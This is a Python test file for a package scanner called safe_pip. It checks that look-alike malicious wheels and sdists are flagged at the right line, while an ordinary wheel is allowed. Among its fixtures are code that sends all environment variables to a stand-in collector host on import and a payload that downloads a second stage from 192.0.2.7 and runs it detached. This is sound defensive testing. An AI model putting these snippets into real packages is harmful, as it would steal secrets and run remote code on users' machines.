"""Harmless look-alikes of real malware, through the real model: asked or blocked, at the line."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.builders import write_sdist, write_wheel

HARMLESS = base64.b64encode(b"import os\nopen(os.path.join('.', 'marker'), 'w').close()\n").decode()

DECODE_IN_SETUP = f"""\
import base64
from setuptools import setup

exec(base64.b64decode("{HARMLESS}"))

setup(name="lookalike", version="1.0")
"""

STARTUP_LINE = f"import base64; exec(base64.b64decode('{HARMLESS}'))\n"

ENVIRONMENT_AT_IMPORT = """\
import json
import os
import urllib.request


def _report():
    body = json.dumps(dict(os.environ)).encode()
    urllib.request.urlopen("https://abc123.oastify.example/collect", data=body)


_report()
"""

PAYLOAD_IN_DATA = """\
import os

_HERE = os.path.dirname(__file__)

exec(open(os.path.join(_HERE, "words.txt")).read())
"""

DATA_PAYLOAD = """\
import os, subprocess, urllib.request

data = urllib.request.urlopen("http://192.0.2.7/stage2").read()
open("/tmp/.stage2", "wb").write(data)
subprocess.Popen(["python3", "/tmp/.stage2"], start_new_session=True)
"""


def scan(*paths: Path) -> list[dict[str, Any]]:
    done = subprocess.run(
        [sys.executable, "-m", "safe_pip", "scan", "--format", "json", *map(str, paths)],
        capture_output=True,
        text=True,
        timeout=120,
        # A verdict remembered from another state of the code would answer for this one.
        env={**os.environ, "XDG_CACHE_HOME": str(paths[0].parent / "cache")},
    )
    document = json.loads(done.stdout)
    decisions: list[dict[str, Any]] = document["decisions"]
    return decisions


def sdist_with_setup(folder: Path, setup: str) -> Path:
    return write_sdist(folder, "lookalike", "1.0", files={"setup.py": setup})


def wheel_with(folder: Path, files: dict[str, str]) -> Path:
    return write_wheel(folder, "lookalike", "1.0", files=files)


@pytest.mark.parametrize(
    ("files", "path", "line"),
    [
        pytest.param({"setup.py": DECODE_IN_SETUP}, "setup.py", 4, id="decode-in-setup"),
        pytest.param({"lookalike.pth": STARTUP_LINE}, "lookalike.pth", 1, id="pth"),
        pytest.param(
            {"lookalike/__init__.py": ENVIRONMENT_AT_IMPORT},
            "lookalike/__init__.py",
            8,
            id="environment-at-import",
        ),
        pytest.param(
            {"lookalike/__init__.py": PAYLOAD_IN_DATA, "lookalike/words.txt": DATA_PAYLOAD},
            "lookalike/__init__.py",
            5,
            id="payload-in-data",
        ),
    ],
)
def test_a_lookalike_is_not_allowed_and_its_line_is_named(
    tmp_path: Path, files: dict[str, str], path: str, line: int
) -> None:
    is_source = "setup.py" in files
    artifact = (
        sdist_with_setup(tmp_path, files["setup.py"]) if is_source else wheel_with(tmp_path, files)
    )
    (decision,) = scan(artifact)
    assert decision["action"] in ("ask", "block"), decision
    assert (path, line) in {(item["path"], item["line"]) for item in decision["evidence"]}, decision


def test_an_ordinary_wheel_is_allowed(tmp_path: Path) -> None:
    module = "import json\n\n\ndef read(path):\n    with open(path) as file:\n        return json.load(file)\n"
    (decision,) = scan(wheel_with(tmp_path, {"lookalike/__init__.py": module}))
    assert decision["action"] == "allow", decision
